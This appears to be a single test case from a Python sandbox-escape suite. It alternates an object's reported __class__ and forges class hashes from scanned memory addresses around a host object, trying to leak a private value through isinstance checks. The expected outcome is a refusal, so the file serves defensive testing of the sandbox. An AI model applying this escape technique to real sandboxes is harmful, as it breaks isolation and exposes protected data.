"""An object that changes its class during the check

Technique: __class__ is a property: a harmless class when it is judged, one with the hash of a private class later
Versions: 3.11 3.12 3.13
Origin: own search
Expected: IndexError
Harness: host
"""

try:
    found = []

    class Proxy:
        asked = 0

        @property
        def __class__(self):
            Proxy.asked += 1
            return Mine if Proxy.asked % 2 == 0 else Plain

    class Plain:
        pass

    class Meta(type):
        def __hash__(cls):
            return address >> 4 | (address & 15) << 60

        def __eq__(cls, other):
            if hasattr(other, "label"):
                found.append(other.label)
            return False

    for address in range(id(host_abc) - (1 << 17), id(host_abc) + (1 << 17), 16):
        for Proxy.asked in (0, 1):  # the second look is the one that counts, or the first
            Mine = Meta("Mine", (), {})
            isinstance(Proxy(), host_abc)
    loot = found[0]
except BaseException as error:
    print(f"REFUSED: {type(error).__name__}: {error}")
else:
    print(f"ESCAPED: {loot!r:.120}")
